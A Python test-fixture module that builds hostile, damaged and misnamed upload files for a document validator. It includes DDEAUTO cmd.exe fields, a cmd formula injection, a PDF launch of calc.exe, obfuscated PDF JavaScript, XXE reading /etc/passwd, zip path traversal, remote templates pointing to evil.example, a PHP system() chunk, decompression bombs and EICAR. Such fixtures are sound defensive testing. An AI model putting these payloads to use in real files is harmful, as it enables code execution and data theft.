"""Hostile, damaged and mistaken files: what each is, its name, how it is made, and the cause that must be named."""

import io
import struct
import zlib
from zipfile import ZIP_STORED, ZipFile

from pypdf import PdfReader, PdfWriter

from core.files.kinds import SCAN, SHEET, Kind, listed
from core.files.signatures import EICAR
from tests.core.files import make

LINKS = "word/_rels/document.xml.rels"
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
RUN = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
PROGRAM = b"MZ\x90\0" + b"\0" * 200 + b"PE\0\0"
LAUNCH = "/OpenAction<</S/Launch/F(calc.exe)>>"


def really(what, allowed=tuple(Kind)):
    return f"仅接受{listed(allowed)}；该文件实际为{what}，请另存为{allowed[0].label}后上传。"


def locked_pdf(password):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make.pdf())))
    writer.encrypt(password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked_archive():
    content = bytearray(make.word())
    for mark, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.find(mark) + flags] |= 1
    return bytes(content)


def overlapping():
    """Two names in the directory for the same bytes, as the bombs of little weight do it."""
    content = make.archive({"[Content_Types].xml": "x" * 50, "word/document.xml": "y" * 50}, method=ZIP_STORED)
    end = content.rfind(b"PK\x05\x06")
    first = content.find(b"PK\x01\x02")
    second = bytearray(content[content.find(b"PK\x01\x02", first + 4) : end])
    second[42:46] = struct.pack("<I", 0)
    return content[: content.find(b"PK\x01\x02", first + 4)] + bytes(second) + content[end:]


def many_entries():
    return make.changed(make.word(), add={f"word/media/{n}.txt": "" for n in range(5100)})


def doubled():
    out = io.BytesIO(make.word())
    with ZipFile(out, "a") as container:
        container.writestr("WORD/document.xml", "<x/>")
    return out.getvalue()


def damaged_member():
    content = make.archive(
        {"[Content_Types].xml": make.changed(make.word())[:0] or "wordprocessingml", "a.xml": "<a>" + "b" * 500 + "</a>"}, method=ZIP_STORED
    )
    return content.replace(b"bbbb", b"bbbc", 1)


def exploding_pdf():
    return make.pdf("/Metadata 10 0 R", objects=[make.stream(b"\0" * (201 * 1024 * 1024))])


def wide_jpg():
    """A real picture whose header claims 65000 × 65000."""
    content = bytearray(make.image())
    frame = content.find(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(content)


def hidden_script():
    """The name is escaped and the action compressed away in a stream of objects."""
    writer = PdfWriter(
        clone_from=PdfReader(io.BytesIO(make.pdf("/OpenAction 10 0 R", objects=["<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"])))
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def embedded_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make.pdf())))
    writer.add_attachment("evil.exe", PROGRAM)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


XLSX, DOCX, PDF = make.sheet, make.word, make.pdf

# (what it is, its name, its bytes, the cause or the whole sentence, allowed kinds when not all)
HOSTILE = [
    # not what the house takes
    ("nothing", "空.pdf", lambda: b"", "empty"),
    ("program", "证明.pdf", lambda: PROGRAM, really("Windows程序")),
    ("program of Linux", "scan.png", lambda: b"\x7fELF" + b"\x02" * 60, really("Linux程序")),
    ("page as picture", "logo.png", lambda: b"<!DOCTYPE html><script>alert(1)</script>", really("HTML网页")),
    ("page in UTF-16", "logo.jpg", lambda: "<html><body>".encode("utf-16"), really("HTML网页")),
    ("drawing with script", "logo.png", lambda: b'<?xml version="1.0"?><svg xmlns="x"><script/></svg>', really("SVG图片")),
    ("batch file", "a.pdf", lambda: b"@echo off\r\nformat c:", really("脚本")),
    ("plain text", "a.docx", "只是文字".encode, really("文本文件")),
    ("moving picture", "a.jpg", lambda: make.image("GIF", "P"), really("GIF图片")),
    ("plain archive", "材料.docx", lambda: make.archive({"a.txt": "a"}), really("ZIP压缩包")),
    ("Java archive", "a.ofd", lambda: make.archive({"META-INF/MANIFEST.MF": "x"}), really("JAR程序")),
    ("RAR", "a.pdf", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 50, really("RAR压缩包")),
    ("random bytes", "a.pdf", lambda: bytes(range(1, 9)) * 3 + b"\0\xfe" * 40, really("未知格式")),
    ("old Word", "报告.doc", lambda: make.compound("WordDocument"), "不接受旧版DOC，请另存为DOCX后上传。"),
    ("old Word renamed", "报告.docx", lambda: make.compound("WordDocument"), "不接受旧版DOC，请另存为DOCX后上传。"),
    ("old Excel", "数据.xls", lambda: make.compound("Workbook"), "不接受旧版XLS，请另存为XLSX后上传。"),
    ("old slides", "汇报.ppt", lambda: make.compound("PowerPoint Document"), "不接受旧版PPT，请另存为PDF后上传。"),
    ("Word where only scans go", "a.docx", DOCX, really("DOCX", SCAN), SCAN),
    ("PDF where only sheets go", "a.pdf", PDF, really("PDF", SHEET), SHEET),
    (
        "template of Word",
        "a.docx",
        lambda: make.changed(DOCX(), replace={"[Content_Types].xml": ("document.main+xml", "template.main+xml")}),
        really("Word模板"),
    ),
    # the name tells something else
    ("JPG called PNG", "照片.png", make.image, "文件名以“.png”结尾，内容实际为JPG，请把扩展名改为“.jpg”后上传。"),
    ("PDF called EXE", "证明.pdf.exe", PDF, "文件名以“.exe”结尾，内容实际为PDF，请把扩展名改为“.pdf”后上传。"),
    ("name read backwards", "证明\u202efdp.exe", PDF, "文件名以“.exe”结尾，内容实际为PDF，请把扩展名改为“.pdf”后上传。"),
    ("XLSX called DOCX", "表.docx", XLSX, "文件名以“.docx”结尾，内容实际为XLSX，请把扩展名改为“.xlsx”后上传。"),
    # two formats in one file
    ("PDF with an archive behind", "a.pdf", lambda: PDF() + make.archive({"a.exe": PROGRAM}), "mixed"),
    ("picture with an archive behind", "a.jpg", lambda: make.image() + make.archive({"a.class": "x"}), "mixed"),
    ("picture with a page inside", "a.jpg", lambda: make.image(comment=b"<script>alert(1)</script>"), "mixed"),
    (
        "PNG with PHP inside",
        "a.png",
        lambda: make.png(1, 1, zlib.compress(b"\0\0"), extra=make.chunk(b"tEXt", b"a\0<?php system(1);?>")),
        "mixed",
    ),
    ("PNG with a program behind", "a.png", lambda: make.image("PNG") + PROGRAM, "mixed"),
    ("page in front of a PDF", "a.pdf", lambda: PDF(head=b"<html><script>1</script>"), "mixed"),
    ("picture in front of a PDF", "a.pdf", lambda: PDF(head=b"GIF89a"), "mixed"),
    ("Word with RAR behind", "a.docx", lambda: DOCX() + b"Rar!\x1a\x07\x00" + b"\0" * 50, "mixed"),
    # Office
    ("macro", "a.docx", lambda: make.changed(DOCX(), add={"word/vbaProject.bin": make.compound("VBA")}), "macro"),
    ("macro in XLSM", "a.xlsm", lambda: make.changed(XLSX(), add={"xl/vbaProject.bin": make.compound("VBA")}), "macro"),
    (
        "macro by its type alone",
        "a.xlsx",
        lambda: make.changed(
            XLSX(),
            replace={
                "[Content_Types].xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            },
        ),
        "macro",
    ),
    ("macro sheet of Excel 4", "a.xlsx", lambda: make.changed(XLSX(), add={"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
    ("control", "a.docx", lambda: make.changed(DOCX(), add={"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    (
        "template from the network",
        "a.docx",
        lambda: make.changed(
            DOCX(), add={"word/_rels/settings.xml.rels": make.relationships("attachedTemplate", "http://evil.example/a.dotm")}
        ),
        "external",
    ),
    (
        "template from a share",
        "a.docx",
        lambda: make.changed(DOCX(), add={"word/_rels/settings.xml.rels": make.relationships("attachedTemplate", "file://evil/a.dotm")}),
        "external",
    ),
    ("picture from the network", "a.docx", lambda: make.related(DOCX(), LINKS, "image", "http://evil.example/pixel.png"), "external"),
    ("link that starts a program", "a.docx", lambda: make.related(DOCX(), LINKS, "hyperlink", "ms-msdt:/id"), "external"),
    ("object from the network", "a.docx", lambda: make.related(DOCX(), LINKS, "oleObject", "http://evil.example/a"), "external"),
    ("field that starts a program", "a.docx", lambda: make.in_body(DOCX(), FIELD.format(RUN.format("DDEAUTO c:\\cmd.exe"))), "external"),
    (
        "the same cut into runs",
        "a.docx",
        lambda: make.in_body(DOCX(), FIELD.format(RUN.format("DDE") + RUN.format("AUTO c:\\cmd.exe"))),
        "external",
    ),
    ("formula that starts a program", "a.xlsx", lambda: XLSX({"A1": "=cmd|'/c calc'!A0"}), "external"),
    ("link to another workbook", "a.xlsx", lambda: make.changed(XLSX(), add={"xl/externalLinks/externalLink1.xml": "<x/>"}), "external"),
    ("embedded object", "a.docx", lambda: make.changed(DOCX(), add={"word/embeddings/oleObject1.bin": make.compound("Ole")}), "embedded"),
    ("program called a picture", "a.docx", lambda: make.changed(DOCX(), add={"word/media/image1.png": PROGRAM}), "embedded"),
    ("page in a part of its own", "a.docx", lambda: make.related(DOCX(), LINKS, "aFChunk", "chunk.html", mode=""), "embedded"),
    ("archive inside", "a.xlsx", lambda: make.changed(XLSX(), add={"xl/media/a.png": make.archive({"a": "b"})}), "embedded"),
    (
        "macro in an embedded book",
        "a.docx",
        lambda: make.changed(DOCX(), add={"word/embeddings/b.xlsx": make.changed(XLSX(), add={"xl/vbaProject.bin": b"x"})}),
        "macro",
    ),
    ("encrypted Office", "a.docx", lambda: make.compound("EncryptionInfo", "EncryptedPackage"), "encrypted"),
    ("encrypted archive", "a.docx", locked_archive, "encrypted"),
    (
        "entities that multiply",
        "a.docx",
        lambda: make.changed(DOCX(), add={"word/e.xml": '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'}),
        "archive",
    ),
    (
        "entity that reads a file",
        "a.xlsx",
        lambda: make.changed(XLSX(), add={"xl/e.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'.encode("utf-16")}),
        "archive",
    ),
    ("name that climbs", "a.docx", lambda: make.changed(DOCX(), add={"../../etc/cron.d/x": "x"}), "archive"),
    ("name from the root", "a.docx", lambda: make.changed(DOCX(), add={"/etc/passwd": "x"}), "archive"),
    ("one name twice", "a.docx", doubled, "archive"),
    ("XML without an end", "a.docx", lambda: make.changed(DOCX(), replace={"word/document.xml": ("</w:document>", "")}), "broken"),
    ("cut DOCX", "a.docx", lambda: DOCX()[:-3000], "broken"),
    ("altered DOCX", "a.docx", damaged_member, really("未知的Office文件")),
    # bombs
    ("bomb in a part", "a.docx", lambda: make.changed(DOCX(), add={"word/media/a.xml": b"\0" * (60 * 1024 * 1024)}), "bomb"),
    ("bomb in many parts", "a.xlsx", lambda: make.changed(XLSX(), add={f"xl/media/{n}": b"\0" * 3_900_000 for n in range(60)}), "bomb"),
    ("bomb of entries", "a.docx", many_entries, "bomb"),
    ("bomb of shared bytes", "a.docx", overlapping, "bomb"),
    ("XML too deep", "a.docx", lambda: make.changed(DOCX(), add={"word/deep.xml": "<a>" * 5000 + "</a>" * 5000}), "bomb"),
    ("picture of 65000 × 65000", "a.jpg", wide_jpg, "bomb"),
    ("PNG of 100000 × 100000", "a.png", lambda: make.png(100_000, 100_000, zlib.compress(b"\0" * 1000)), "bomb"),
    ("PNG with more than it says", "a.png", lambda: make.png(1, 1, zlib.compress(b"\0" * 50_000_000)), "bomb"),
    ("PDF that unpacks to 200 MB", "a.pdf", exploding_pdf, "bomb"),
    (
        "PDF packed twice",
        "a.pdf",
        lambda: PDF("/Metadata 10 0 R", objects=[make.stream(zlib.compress(b"\0" * 9999), "/Filter[/FlateDecode/FlateDecode]")]),
        "bomb",
    ),
    # damaged pictures
    ("cut JPG", "a.jpg", lambda: make.image(size=(800, 600))[:3000], "broken"),
    ("cut PNG", "a.png", lambda: make.image("PNG", size=(800, 600))[:-40], "broken"),
    ("PNG with a wrong checksum", "a.png", lambda: make.image("PNG").replace(b"IDAT", b"IDAT", 1)[:-20] + b"\0" * 20, "broken"),
    ("PNG with fewer rows than it says", "a.png", lambda: make.png(100, 100, zlib.compress(b"\0" * 1010)), "broken"),
    # PDF
    ("script on opening", "a.pdf", lambda: PDF("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "script"),
    ("script by name", "a.pdf", lambda: PDF("/Names<</JavaScript<</Names[(a) 10 0 R]>>>>", objects=["<</S/JavaScript/JS(1)>>"]), "script"),
    ("script hidden", "a.pdf", hidden_script, "script"),
    ("program on opening", "a.pdf", lambda: PDF(LAUNCH), "script"),
    ("form that sends itself", "a.pdf", lambda: PDF(page="/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>"), "script"),
    ("script in an address", "a.pdf", lambda: PDF(page="/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:1)>>>>]"), "script"),
    ("dynamic form", "a.pdf", lambda: PDF("/AcroForm<</Fields[]/XFA 10 0 R>>", objects=[make.stream(b"<xdp/>")]), "form"),
    ("embedded program", "a.pdf", embedded_pdf, "embedded"),
    ("attached by a note", "a.pdf", lambda: PDF(page="/Annots[<</Type/Annot/Subtype/FileAttachment/FS<</F(a)>>>>]"), "embedded"),
    ("film", "a.pdf", lambda: PDF(page="/Annots[<</Type/Annot/Subtype/RichMedia>>]"), "embedded"),
    ("password to open", "a.pdf", lambda: locked_pdf("secret"), "encrypted"),
    ("password to print", "a.pdf", lambda: locked_pdf(""), "encrypted"),
    ("no pages", "a.pdf", lambda: PDF(pages=0), "no_pages"),
    ("pages in a circle", "a.pdf", lambda: PDF().replace(b"/Kids[100 0 R]", b"/Kids[2 0 R]  "), "no_pages"),
    ("cut PDF", "a.pdf", lambda: PDF()[:-60], "broken"),
    ("header only", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", "broken"),
    ("brackets without end", "a.pdf", lambda: PDF("/X " + "[" * 20000), "broken"),
    # OFD
    ("OFD with a program", "a.ofd", lambda: make.ofd({"Doc_0/Res/a.png": PROGRAM}), "embedded"),
    ("OFD encrypted", "a.ofd", lambda: make.ofd({"Doc_0/Encryptions.xml": "<x/>"}), "encrypted"),
    ("OFD of something else", "a.ofd", lambda: make.ofd(root="ofd:Other"), "broken"),
    # viruses
    ("virus", "a.pdf", lambda: EICAR, "virus"),
    ("virus behind a PDF", "a.pdf", lambda: PDF(tail=EICAR), "virus"),
    ("virus packed in a DOCX", "a.docx", lambda: make.changed(DOCX(), add={"word/media/a.txt": EICAR * 40}), "virus"),
    ("virus packed in a PDF", "a.pdf", lambda: PDF("/Metadata 10 0 R", objects=[make.stream(EICAR * 40)]), "virus"),
]
